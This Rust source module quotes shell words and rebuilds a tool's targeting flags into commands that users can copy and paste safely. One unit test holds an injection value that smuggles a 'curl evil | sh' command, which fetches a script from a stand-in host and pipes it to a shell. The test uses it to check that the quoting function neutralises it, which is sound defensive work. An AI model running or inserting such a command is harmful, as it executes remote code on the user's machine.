//! Commands that people copy: they must aim where this run aimed, and be safe to paste.

use super::args::Global;

/// A word for a shell; quoted where it holds anything but plain characters.
pub(super) fn quoted(word: &str) -> String {
    let plain = |c: char| c.is_alphanumeric() || "-_./:@=,+%".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', "'\\''"))
    }
}

/// The flags of this run that decide where another command goes; each after a blank.
pub(super) fn aim(global: &Global) -> String {
    let path = |path: &std::path::PathBuf| path.display().to_string();
    let flags = [
        ("--sandbox", global.sandbox.clone()),
        ("--semgrep-url", global.semgrep_url.clone()),
        ("--deployment", global.deployment.clone()),
        ("--config", global.config.as_ref().map(path)),
        ("--profile", global.profile.clone()),
        ("--ca-cert", global.ca_cert.as_ref().map(path)),
        (
            "--semgrep-token-file",
            global.semgrep_token_file.as_ref().map(path),
        ),
        (
            "--semgrep-token-command",
            global.semgrep_token_command.clone(),
        ),
    ];
    let given = flags
        .into_iter()
        .filter_map(|(flag, value)| Some((flag, value?)));
    given
        .map(|(flag, value)| match flag {
            "--sandbox" => format!(" {flag}={}", quoted(&value)),
            _ => format!(" {flag} {}", quoted(&value)),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::quoted;

    #[test]
    fn what_a_shell_would_read_otherwise_is_quoted() {
        assert_eq!(quoted("acme/web"), "acme/web");
        assert_eq!(quoted("x; curl evil | sh #"), "'x; curl evil | sh #'");
        assert_eq!(quoted("it's"), "'it'\\''s'");
        assert_eq!(quoted(""), "''");
    }
}
